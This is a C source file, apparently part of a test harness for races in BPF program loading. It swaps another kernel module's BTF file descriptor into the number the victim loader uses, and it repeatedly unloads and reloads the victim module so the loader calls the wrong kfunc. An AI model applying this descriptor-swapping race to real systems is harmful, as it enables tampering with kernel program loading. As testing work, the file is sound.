// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/*
 * Race attacks - another BTF at the number of a module's: the kfunc that is called is another one
 */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include "race.h"

#define USED  "bpf_test_modorder_x" /* by the victim */
#define OTHER "bpf_test_modorder_y"

/**
 * module_there() - is the other module inserted?
 *
 * Return: true if so; the victim's comes with it.
 */
bool module_there(void)
{
	struct stat st;

	return !stat("/sys/module/" OTHER, &st);
}

static bool has_name(int fd, const char *name)
{
	struct bpf_btf_info info = {0};
	union bpf_attr attr = {0};
	char got[64] = "";

	info.name = (uintptr_t)got;
	info.name_len = sizeof(got);
	attr.info.bpf_fd = fd;
	attr.info.info_len = sizeof(info);
	attr.info.info = (uintptr_t)&info;
	return !sys_bpf(BPF_OBJ_GET_INFO_BY_FD, &attr, sizeof(attr.info)) && !strcmp(got, name);
}

static int btf_by_name(const char *name)
{
	union bpf_attr next = {0};

	while (!sys_bpf(BPF_BTF_GET_NEXT_ID, &next, offsetof(union bpf_attr, open_flags))) {
		union bpf_attr attr = {0};
		int fd;

		attr.btf_id = next.start_id = next.next_id;
		fd = sys_bpf(BPF_BTF_GET_FD_BY_ID, &attr, offsetof(union bpf_attr, open_flags));
		if (fd < 0)
			continue;
		if (has_name(fd, name))
			return race_high(fd);
		close(fd);
	}
	return -ENOENT;
}

/**
 * module_before() - open the other module's BTF
 * @r: the round
 *
 * Return: 0 or a negative errno.
 */
int module_before(struct race *r)
{
	if (!r->evil_btf)
		r->evil_btf = btf_by_name(OTHER);
	return r->evil_btf < 0 ? r->evil_btf : 0;
}

/**
 * module_number() - the attacker's BTF over the number of the module's
 * @r: the round
 */
void module_number(struct race *r)
{
	int n = r->base + r->victim->module;

	while (r->running && !number_open(n))
		race_step(r);
	if (r->running)
		dup2(r->evil_btf, n);
}

/**
 * module_hammer() - the attacker's BTF over the number again and again, whatever the loader does
 * @r: the round
 */
void module_hammer(struct race *r)
{
	int n = r->base + r->victim->module;

	while (r->running) {
		bool open = number_open(n);

		dup2(r->evil_btf, n);
		/* A number that was free is left to the loader. */
		if (!open)
			close(n);
		race_step(r);
	}
}

static void module_insert(void)
{
	char path[4200];
	int fd;

	snprintf(path, sizeof(path), "%s/../modules/ko/" USED ".ko", victim_dir());
	fd = open(path, O_RDONLY | O_CLOEXEC);
	syscall(SYS_finit_module, fd, "", 0);
	close(fd);
}

/**
 * module_reload() - take the victim's module out and put it in again
 * @r: the round
 *
 * What the loader has found of it may be gone when it loads the program.
 */
void module_reload(struct race *r)
{
	struct timespec moment = {.tv_nsec = rand() % 3000000};

	clock_nanosleep(CLOCK_MONOTONIC, 0, &moment, NULL);
	if (r->running && !syscall(SYS_delete_module, USED, O_NONBLOCK))
		module_insert();
}
